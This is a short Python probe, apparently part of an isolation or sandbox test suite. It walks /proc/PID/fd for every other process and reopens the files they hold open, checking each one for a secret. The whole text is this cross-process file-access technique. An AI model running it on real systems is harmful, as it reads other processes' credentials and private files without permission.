# name: reopen what other processes hold open, through /proc/PID/fd
# line: 50
import os

from attack import processes, secret_at, try_each


def theirs(pid):
    for name in os.listdir(f"/proc/{pid}/fd"):
        target = os.readlink(f"/proc/{pid}/fd/{name}")
        if target.startswith("/") and not target.startswith(("/dev/", "/proc/")):
            if found := secret_at(f"/proc/{pid}/fd/{name}"):
                return f"{target} with {found}"


own = (str(os.getpid()), str(os.getppid()))
try_each((f"/proc/{pid}/fd", lambda pid=pid: theirs(pid)) for pid in processes() if pid not in own)
